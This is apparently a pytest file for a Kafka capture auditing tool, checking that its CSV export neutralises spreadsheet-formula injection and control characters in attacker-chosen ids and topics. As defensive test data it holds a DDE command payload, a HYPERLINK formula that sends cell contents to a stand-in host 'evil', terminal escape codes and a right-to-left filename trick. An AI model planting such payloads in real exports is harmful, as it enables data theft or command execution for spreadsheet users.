"""CSV exports of a capture whose ids, topic and client id are attacker-chosen (issue 18, item 2): a
spreadsheet user opening them sees text, never a formula, and no cell holds a raw control character."""

from __future__ import annotations

import csv
import json

import pytest
from click.testing import CliRunner

from ksniff.cli import main
from ksniff.report import tables
from ksniff.report.cells import neutral, visible

from .rewritten import CLIENT_ID, TOPIC, TXN_ID, hostile_copy

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_control(ch: str) -> bool:
    return ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    capture = hostile_copy(tmp)
    out = tmp / "csv"
    run = CliRunner().invoke(
        main,
        [
            "audit",
            str(capture),
            "--csv",
            str(out),
            "--json",
            str(tmp / "r.json"),
            "--records",
            "--exit-zero",
            "-q",
            "--no-color",
        ],
    )
    assert run.exit_code == 0, run.output
    read = {}
    for table in tables.SCHEMAS:
        with open(out / f"{table}.csv", encoding="utf-8", newline="") as fh:
            read[table] = list(csv.DictReader(fh))
    return read, json.loads((tmp / "r.json").read_text())


def test_no_cell_is_a_formula_or_holds_a_control_character(exported):
    read, _doc = exported
    text_columns = {t: {c for c, dtype in s.items() if dtype == "string"} for t, s in tables.SCHEMAS.items()}
    seen_negative = 0
    for table, rows in read.items():
        assert rows, f"{table}.csv is empty"
        for row in rows:
            for column, cell in row.items():
                assert not any(_is_control(ch) for ch in cell), (table, column, cell)
                if cell.startswith(FORMULA_STARTS):
                    # only a number may start so (acks -1, producer id -1): it stays a number
                    assert column not in text_columns[table] and _is_number(cell), (table, column, cell)
                    seen_negative += 1
    assert seen_negative > 0  # the capture has acks=-1 and the like, kept as numbers


def test_the_hostile_strings_are_there_as_text_a_reader_recognises(exported):
    read, doc = exported
    fenced = [r for r in read["findings"] if r["kind"] == "producer_fenced"]
    assert fenced and {r["transactional_id"] for r in fenced} == {"'=A1\\x1b[2J\\r\\n"}
    assert {r["transactional_id"] for r in read["transactions"]} >= {"'=A1\\x1b[2J\\r\\n"}
    assert {r["client_id"] for r in read["exchanges"]} == {"'+cmd|'/C'!"}
    assert {r["topic"] for r in read["batches"]} >= {"'\\t=1"}
    assert {r["topic"] for r in read["records"]} >= {"'\\t=1"}
    # Each export row is one line of the file: the id's CR LF did not split a row.
    assert all(r["api"] for r in read["exchanges"])
    # The JSON keeps the exact strings, for scripts.
    assert {f["transactional_id"] for f in doc["findings"] if f["kind"] == "producer_fenced"} == {TXN_ID}
    assert TOPIC in {f["topic"] for f in doc["findings"]}
    assert CLIENT_ID in {p for f in doc["findings"] for p in [f["evidence"].get("client_id")]}


@pytest.mark.parametrize(
    "text, cell",
    [
        ("orders-txn", "orders-txn"),
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\\tx"),
        ("\rx", "'\\rx"),
        ("a\nb", "a\\nb"),
        ("\x1b[31m", "\\x1b[31m"),
        ("x\u202egnp.exe", "x\\u202egnp.exe"),
        ("\x85", "\\x85"),
        ("", ""),
        ("ünïcode ok", "ünïcode ok"),
    ],
)
def test_the_rule(text, cell):
    assert neutral(text) == cell
    assert visible(text) == cell.removeprefix("'") or text[:1] in FORMULA_STARTS
